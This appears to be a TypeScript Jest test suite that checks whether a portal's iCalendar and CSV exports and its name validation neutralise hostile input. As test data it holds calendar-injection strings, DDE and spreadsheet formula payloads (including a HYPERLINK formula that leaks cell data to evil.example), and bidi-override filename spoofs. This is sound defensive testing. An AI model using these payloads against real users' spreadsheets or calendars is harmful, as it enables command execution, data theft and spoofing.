import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse as parseCsv } from 'csv-parse/sync';
import ICAL from 'ical.js';
import nodeIcal from 'node-ical';
import type { TestMember } from '@lcc/testing';
import { sql } from './support/db.js';
import { createTestApp, type TestApp } from './support/test-app.js';

/** iCalendar TEXT has one kind of line break: whatever was typed comes back as LF. */
const lf = (text: string): string => text.replace(/\r\n?/g, '\n');

/**
 * Hostile text through every writer: what people type (titles, descriptions, venues, agendas, names, sources, units)
 * must come back as the same text to a reader, and never as structure (a new calendar component or property, a
 * spreadsheet formula).
 */
describe('what we write cannot be turned against the reader', () => {
  let t: TestApp;
  let organizer: TestMember;
  let invitee: TestMember;
  let legacy: TestMember;
  let groupId: string;

  beforeAll(async () => {
    t = await createTestApp();
    organizer = await t.fx.member({ role: 'coordinator', displayName: "=cmd|' /C calc'!A0 ^n ^' Jr." });
    invitee = await t.fx.member({ displayName: 'Li "Tiger" Wei; O\'Brien, Jr. \\ 王小明 🌏 👩‍🔬' });
    legacy = await t.fx.member();
    // Names stored before names were checked may still hold line breaks: the writers must hold without the check.
    await sql(t.databaseUrl, 'UPDATE members SET display_name = $1 WHERE id = $2', [
      'Eve\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:pwned',
      legacy.id,
    ]);
    const group = await t.fx.group(organizer, {
      name: 'Escaping group',
      thematicArea: 'low_carbon_cities',
      visibility: 'private',
    });
    groupId = group.id;
    for (const m of [invitee, legacy]) await t.fx.addMember(group, m);
  });
  afterAll(async () => {
    await t.close();
  });

  describe('iCalendar', () => {
    const title =
      'Budget; "review", a\\b\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Injected\r\nBEGIN:VALARM 低碳城市 🌏 ' +
      '低碳城市の計画と実施'.repeat(4);
    const description =
      'Line one\r\nBEGIN:VALARM\r\nTRIGGER:-PT5M\r\nEND:VALARM\r\nX-INJECTED:1;a,b "q" \\ back\\slash\rCR only\n' +
      'Низкоуглеродный город 🌏🌱 '.repeat(6);
    const venue = 'Room 1; floor 2, "east"\r\nLOCATION;ALTREP="http://evil.example":Elsewhere \\ 会議室';
    const agenda = [
      { title: 'Opening\r\nBEGIN:VTODO\r\nSUMMARY:todo', presenter: 'Kim; "Lee", \\ 🌏', durationMinutes: 10 },
      { title: 'Close, "end"; \\', presenter: null, durationMinutes: null },
    ];
    const expectedDescription = [
      lf(description),
      '',
      'Agenda:',
      `1. ${lf(agenda[0]!.title)} (${agenda[0]!.presenter}, 10 min)`,
      `2. ${agenda[1]!.title}`,
    ].join('\n');
    /** CN values as every reader gets them: DQUOTE, `\`, `;`, `^` and line breaks have no place in a parameter. */
    const expectedNames = (): Map<string, string> =>
      new Map([
        [organizer.id, "=cmd|' /C calc'!A0 \u02c6n \u02c6' Jr."],
        [invitee.id, "Li 'Tiger' Wei, O'Brien, Jr. / 王小明 🌏 👩‍🔬"],
        [legacy.id, 'Eve END:VEVENT BEGIN:VEVENT SUMMARY:pwned'],
      ]);
    const meetingIds: string[] = [];

    beforeAll(async () => {
      for (const [i, startsAt] of ['2027-06-01T01:00:00Z', '2027-06-02T01:00:00Z'].entries()) {
        const created = await t.fx.meeting(organizer, groupId, {
          title: `${title} #${i}`,
          description,
          venue,
          agenda,
          startsAt,
          endsAt: startsAt.replace('T01', 'T02'),
          timeZone: 'Asia/Seoul',
        });
        meetingIds.push(created.id);
      }
    });

    /** Parses with both readers and checks structure, text and names; `count` VEVENTs expected. */
    const checkCalendar = (ics: string, count: number, calendarName: string | null): void => {
      // Folded at 75 octets, CRLF everywhere, and no line may start a component we did not write.
      const physical = ics.split('\r\n');
      for (const line of physical) expect(Buffer.byteLength(line, 'utf8')).toBeLessThanOrEqual(75);
      expect(ics.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
      const logical = ics.replace(/\r\n[ \t]/g, '').split('\r\n');
      const begins = logical.filter((l) => l.startsWith('BEGIN:'));
      expect(begins.filter((l) => l === 'BEGIN:VEVENT')).toHaveLength(count);
      expect(
        begins.every(
          (l) =>
            ['BEGIN:VCALENDAR', 'BEGIN:VEVENT', 'BEGIN:VTIMEZONE'].includes(l) || /^BEGIN:(STANDARD|DAYLIGHT)$/.test(l),
        ),
      ).toBe(true);
      expect(logical.filter((l) => /^(SUMMARY|LOCATION|DESCRIPTION|TRIGGER|X-INJECTED)[:;]/.test(l))).toHaveLength(
        3 * count,
      );

      // ical.js
      const vcalendar = new ICAL.Component(ICAL.parse(ics));
      expect(
        vcalendar
          .getAllSubcomponents()
          .map((c) => c.name)
          .sort(),
      ).toEqual([...Array<string>(count).fill('vevent'), 'vtimezone'].sort());
      expect(
        vcalendar
          .getAllProperties()
          .map((p) => p.name)
          .sort(),
      ).toEqual(['method', 'prodid', 'version', ...(calendarName === null ? [] : ['name', 'x-wr-calname'])].sort());
      if (calendarName !== null) {
        // ical.js has no type for NAME and X-WR-CALNAME: decode them as the TEXT they are.
        const text = ICAL.design.icalendar.value.text!;
        for (const prop of ['name', 'x-wr-calname']) {
          expect(text.fromICAL!(String(vcalendar.getFirstPropertyValue(prop)))).toBe(lf(calendarName));
        }
      }
      const events = vcalendar.getAllSubcomponents('vevent');
      for (const event of events) {
        expect(event.getAllSubcomponents()).toHaveLength(0);
        const names = event.getAllProperties().map((p) => p.name);
        expect(names.filter((n) => !['attendee'].includes(n)).sort()).toEqual(
          [
            'created',
            'description',
            'dtend',
            'dtstamp',
            'dtstart',
            'last-modified',
            'location',
            'organizer',
            'sequence',
            'status',
            'summary',
            'uid',
          ].sort(),
        );
        expect(String(event.getFirstPropertyValue('summary'))).toMatch(/ #[01]$/);
        expect(String(event.getFirstPropertyValue('summary')).replace(/ #[01]$/, '')).toBe(lf(title));
        expect(event.getFirstPropertyValue('description')).toBe(expectedDescription);
        expect(event.getFirstPropertyValue('location')).toBe(lf(venue));
        const expected = expectedNames();
        const cn = (p: ICAL.Property) => [
          String(p.getFirstValue()).replace(/^mailto:member-|@portal\.test$/gi, ''),
          p.getParameter('cn'),
        ];
        expect(cn(event.getFirstProperty('organizer')!)).toEqual([organizer.id, expected.get(organizer.id)]);
        const attendees = new Map(event.getAllProperties('attendee').map(cn) as [string, string][]);
        for (const [id, name] of expected) expect(attendees.get(id)).toBe(name);
      }

      // node-ical
      const parsed = Object.values(nodeIcal.sync.parseICS(ics));
      expect(parsed.filter((c) => c?.type === 'VEVENT')).toHaveLength(count);
      expect(
        parsed.map((c) => c?.type).filter((type) => !['VEVENT', 'VTIMEZONE', 'VCALENDAR'].includes(String(type))),
      ).toEqual([]);
      if (calendarName !== null) {
        expect((parsed.find((c) => c?.type === 'VCALENDAR') as unknown as Record<string, unknown>)['WR-CALNAME']).toBe(
          lf(calendarName),
        );
      }
      for (const event of parsed.filter((c) => c?.type === 'VEVENT') as nodeIcal.VEvent[]) {
        expect(String(event.summary).replace(/ #[01]$/, '')).toBe(lf(title));
        expect(event.description).toBe(expectedDescription);
        expect(event.location).toBe(lf(venue));
        const expected = expectedNames();
        const organizerCn = (event.organizer as unknown as { params: { CN: string } }).params.CN;
        expect(organizerCn).toBe(expected.get(organizer.id));
        const attendeeCns = ([] as unknown[])
          .concat(event.attendee)
          .map((a) => a as { params: { CN: string }; val: string })
          .map((a) => [a.val.replace(/^mailto:member-|@portal\.test$/gi, ''), a.params.CN]);
        const byId = new Map(attendeeCns as [string, string][]);
        for (const [id, name] of expected) expect(byId.get(id)).toBe(name);
      }
    };

    it('the single-meeting .ics: escaped calendar name, text and names, one VEVENT', async () => {
      for (const [i, id] of meetingIds.entries()) {
        const response = await t.http().get(`/api/meetings/${id}/ics`).set('Authorization', invitee.auth).expect(200);
        expect(response.headers['content-type']).toMatch(/^text\/calendar/);
        // The calendar is named after the meeting: the hostile title again, this time where nothing escaped it.
        checkCalendar(response.text, 1, `${title} #${i}`);
      }
    });

    it('the private feed: every meeting once, nothing injected, for every invitee', async () => {
      for (const m of [invitee, organizer, legacy]) {
        const session = m === legacy ? await t.fx.login(legacy.email, legacy.password) : m;
        const feed = await t.http().get('/api/calendar/feed').set('Authorization', session.auth).expect(200);
        const response = await t
          .http()
          .get(new URL(feed.body.url as string).pathname)
          .expect(200);
        checkCalendar(response.text, 2, 'LCC meetings');
      }
    });

    it('keeps a literal backslash before n as written (RFC 5545 `\\\\n`), which ical.js reads back', async () => {
      const tricky = 'Path C:\\new\\North; 1,2';
      const created = await t.fx.meeting(organizer, groupId, {
        title: tricky,
        startsAt: '2027-07-01T01:00:00Z',
        endsAt: '2027-07-01T02:00:00Z',
        timeZone: 'UTC',
      });
      const response = await t
        .http()
        .get(`/api/meetings/${created.id}/ics`)
        .set('Authorization', organizer.auth)
        .expect(200);
      expect(response.text).toContain('SUMMARY:Path C:\\\\new\\\\North\\; 1\\,2');
      const event = new ICAL.Component(ICAL.parse(response.text)).getFirstSubcomponent('vevent')!;
      expect(event.getFirstPropertyValue('summary')).toBe(tricky);
      // node-ical unescapes `\n` before `\\` and so reads this one line break too many: a reader's bug, not the file's.
    });
  });

  describe('CSV export of indicator values', () => {
    const hostile = {
      city: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      unit: "@SUM(1+1)*cmd|' /C calc'!A0",
      sources: [
        '=1+1',
        '+1+2',
        '-2+3',
        '@SUM(A1:A9)',
        "'=already quoted",
        "'plain quote",
        'Ministry, "Statistics"; 2024\nsecond line',
        '王小明 🌏 Низкоуглеродный',
      ],
    };
    /** Written directly: leading tab and CR cannot come in through the API (it trims), but stored rows may hold them. */
    const legacySources = ["\t=cmd|' /C calc'!A0", '\r@SUM(A1)'];
    let cityId: string;

    beforeAll(async () => {
      const coordinator = organizer;
      const city = await t
        .http()
        .post('/api/cities')
        .set('Authorization', coordinator.auth)
        .send({ nameEn: hostile.city, country: 'MN', visibility: 'public' })
        .expect(201);
      cityId = city.body.id as string;
      await t
        .http()
        .post('/api/indicators')
        .set('Authorization', coordinator.auth)
        .send({ code: 'hostile_units', name: 'Hostile units', unit: hostile.unit, subjects: ['city'] })
        .expect(201);
      const sources = [...hostile.sources, 'placeholder one', 'placeholder two'];
      for (const [i, source] of sources.entries()) {
        await t
          .http()
          .post('/api/indicator-values')
          .set('Authorization', coordinator.auth)
          .send({
            indicator: 'hostile_units',
            cityId,
            year: 2000 + i,
            value: i % 2 ? -12.5 - i : 1000.25 * i,
            unit: hostile.unit,
            source,
            quality: 'verified',
            visibility: 'public',
          })
          .expect(201);
      }
      for (const [i, source] of legacySources.entries()) {
        await sql(
          t.databaseUrl,
          `UPDATE indicator_values SET source = $1
            WHERE year = $2 AND indicator_id = (SELECT id FROM indicators WHERE code = 'hostile_units')`,
          [source, 2000 + hostile.sources.length + i],
        );
      }
    });

    const stored = async () =>
      sql<{ year: number; value: string; source: string; quality: string; visibility: string }>(
        t.databaseUrl,
        `SELECT v.year, v.value::text AS value, v.source, v.quality, v.visibility FROM indicator_values v
           JOIN indicators i ON i.id = v.indicator_id WHERE i.code = 'hostile_units' ORDER BY v.year`,
      );

    it('neutralises formula text cells for anonymous readers, keeps numbers numbers, and imports back exactly', async () => {
      const before = await stored();
      expect(before).toHaveLength(hostile.sources.length + legacySources.length);
      const exported = await t.http().get('/api/indicator-values/export?indicator=hostile_units').expect(200);
      expect(exported.headers['content-type']).toMatch(/^text\/csv/);
      const rows = parseCsv(exported.text, { columns: true, skip_empty_lines: true }) as Record<string, string>[];
      expect(rows).toHaveLength(before.length);

      const textColumns = ['indicator', 'country', 'city_id', 'city', 'unit', 'source', 'quality', 'visibility'];
      for (const row of rows) {
        // No text cell may open as a formula in a spreadsheet.
        for (const column of textColumns) expect(row[column]).not.toMatch(/^[=+\-@\t\r]/);
        expect(row.city).toBe(`'${hostile.city}`);
        expect(row.unit).toBe(`'${hostile.unit}`);
        // Numbers are written as numbers, negative ones included.
        expect(row.value).toMatch(/^-?\d+(\.\d+)?(e-?\d+)?$/i);
        expect(row.year).toMatch(/^\d{4}$/);
      }
      const byYear = new Map(rows.map((r) => [Number(r.year), r]));
      const cell = (i: number) => byYear.get(2000 + i)!.source;
      expect(cell(0)).toBe("'=1+1");
      expect(cell(1)).toBe("'+1+2");
      expect(cell(2)).toBe("'-2+3");
      expect(cell(3)).toBe("'@SUM(A1:A9)");
      expect(cell(4)).toBe("''=already quoted");
      expect(cell(5)).toBe("'plain quote");
      expect(cell(6)).toBe(hostile.sources[6]);
      expect(cell(7)).toBe(hostile.sources[7]);
      expect(cell(8)).toBe(`'${legacySources[0]}`);
      expect(cell(9)).toBe(`'${legacySources[1]}`);
      expect(byYear.get(2001)!.value).toBe('-13.5');
      expect(exported.text).toContain(',-13.5,');

      // Import the file back into an empty table: every value and text as it was.
      await sql(
        t.databaseUrl,
        `DELETE FROM indicator_values WHERE indicator_id = (SELECT id FROM indicators WHERE code = 'hostile_units')`,
      );
      const imported = await t
        .http()
        .post('/api/indicator-values/import')
        .set('Authorization', organizer.auth)
        .set('Content-Type', 'text/csv')
        .send(exported.text)
        .expect(200);
      expect(imported.body).toMatchObject({ rows: before.length, created: before.length, updated: 0 });
      expect(await stored()).toEqual(before);
      const again = await t.http().get('/api/indicator-values/export?indicator=hostile_units').expect(200);
      expect(again.text).toBe(exported.text);
    });

    it('a hand-made file: a quote before a trigger is taken off, any other quote is kept, numbers are never unquoted', async () => {
      const header = 'indicator,country,city_id,city,year,value,unit,source,quality,visibility';
      const unit = `"'${hostile.unit.replace(/"/g, '""')}"`;
      const file = [
        header,
        `hostile_units,MN,${cityId},,2050,-1,${unit},'-minus,verified,public`,
        `hostile_units,MN,${cityId},,2051,2,${unit},'kept,verified,public`,
        `hostile_units,MN,${cityId},,2052,'-3,${unit},fine,verified,public`,
      ].join('\n');
      const refused = await t
        .http()
        .post('/api/indicator-values/import')
        .set('Authorization', organizer.auth)
        .set('Content-Type', 'text/csv')
        .send(file)
        .expect(400);
      expect(refused.body.code).toBe('IMPORT_FAILED');
      expect(refused.body.details).toEqual([{ field: 'row 4: value', message: `"'-3" is not a number` }]);
      await t
        .http()
        .post('/api/indicator-values/import')
        .set('Authorization', organizer.auth)
        .set('Content-Type', 'text/csv')
        .send(file.split('\n').slice(0, 3).join('\n'))
        .expect(200);
      const rows = await sql<{ year: number; value: string; source: string }>(
        t.databaseUrl,
        `SELECT year, value::text AS value, source FROM indicator_values WHERE year IN (2050, 2051) ORDER BY year`,
      );
      expect(rows).toEqual([
        { year: 2050, value: '-1', source: '-minus' },
        { year: 2051, value: '2', source: "'kept" },
      ]);
    });
  });

  describe('names', () => {
    const refused = [
      'Ada\r\nLovelace',
      'Ada\nBEGIN:VEVENT',
      'Ada\u0007',
      'Ada\u001b[31m',
      'Ada\u0085',
      'A\u2028da',
      'admin\u202Egnp.exe',
      '\u202AAda',
      '\u202BAda',
      '\u202CAda',
      '\u202DAda',
      '\u2066Ada\u2069',
      '\u2067Ada',
      '\u2068Ada',
      'Ada\u200E',
      'Ada\u200F',
      'Ada\u061C',
      'Ad\u200Ba',
      'A\uFEFFda',
      '\u3164',
    ];

    it('PATCH /api/members/me refuses control characters and invisible formatting, naming the field', async () => {
      const m = await t.fx.member({ displayName: 'Original Name' });
      for (const displayName of refused) {
        const response = await t
          .http()
          .patch('/api/members/me')
          .set('Authorization', m.auth)
          .send({ displayName })
          .expect(400);
        expect(response.body).toMatchObject({ statusCode: 400, code: 'VALIDATION_FAILED' });
        expect(response.body.requestId).toEqual(expect.any(String));
        expect(response.body.details).toEqual([
          {
            field: 'displayName',
            message: expect.stringMatching(/^displayName must be one line .*\(found U\+[0-9A-F]{4}\)$/),
          },
        ]);
      }
      const me = await t.http().get('/api/members/me').set('Authorization', m.auth).expect(200);
      expect(me.body.displayName).toBe('Original Name');
      const [row] = await sql<{ display_name: string }>(
        t.databaseUrl,
        'SELECT display_name FROM members WHERE id = $1',
        [m.id],
      );
      expect(row!.display_name).toBe('Original Name');
    });

    it('keeps the names people really have: quotes, CJK, Cyrillic, Mongolian script, emoji sequences, ZWNJ', async () => {
      const m = await t.fx.member();
      for (const displayName of [
        'Li "Tiger" Wei; O\'Brien, Jr. \\ =SUM(A1)',
        '王小明',
        'Батбаяр Дорж',
        'ᠮᠣᠩᠭᠣᠯ\u180Eᠠ',
        '김민준 👩‍🔬 👨‍👩‍👧',
        'می\u200Cخواهم',
      ]) {
        const response = await t
          .http()
          .patch('/api/members/me')
          .set('Authorization', m.auth)
          .send({ displayName })
          .expect(200);
        expect(response.body.displayName).toBe(displayName);
      }
    });

    it('registration refuses the same, and so do other single-line profile fields', async () => {
      const response = await t
        .http()
        .post('/api/auth/register')
        .send({
          email: t.fx.email('bidi'),
          password: 'Long-enough-password-1',
          displayName: 'admin\u202Egnp.exe',
          organization: 'Org\r\nX',
          memberType: 'city_government',
          country: 'MN',
        })
        .expect(400);
      expect(response.body.code).toBe('VALIDATION_FAILED');
      expect(response.body.details.map((d: { field: string }) => d.field).sort()).toEqual([
        'displayName',
        'organization',
      ]);
      const [count] = await sql<{ n: string }>(
        t.databaseUrl,
        `SELECT count(*) AS n FROM members WHERE display_name LIKE 'admin%gnp.exe'`,
      );
      expect(count!.n).toBe('0');
    });

    it('group and room names and document titles refuse them too', async () => {
      const group = await t
        .http()
        .post('/api/working-groups')
        .set('Authorization', organizer.auth)
        .send({ name: 'Group\u202Eevil', thematicArea: 'low_carbon_cities', visibility: 'public' })
        .expect(400);
      expect(group.body.details).toEqual([{ field: 'name', message: expect.stringContaining('U+202E') }]);
      const room = await t
        .http()
        .post('/api/rooms')
        .set('Authorization', organizer.auth)
        .send({ kind: 'topic', name: 'Room\r\nname', visibility: 'public' })
        .expect(400);
      expect(room.body.details).toEqual([{ field: 'name', message: expect.stringContaining('U+000D') }]);
      const document = await t
        .http()
        .post('/api/documents')
        .set('Authorization', organizer.auth)
        .field('title', 'Minutes\u202Etxt.exe')
        .field('kind', 'minutes')
        .field('visibility', 'network')
        .attach('file', Buffer.from('minutes'), { filename: 'minutes.txt', contentType: 'text/plain' })
        .expect(400);
      expect(document.body.details).toEqual([{ field: 'title', message: expect.stringContaining('U+202E') }]);
    });
  });
});
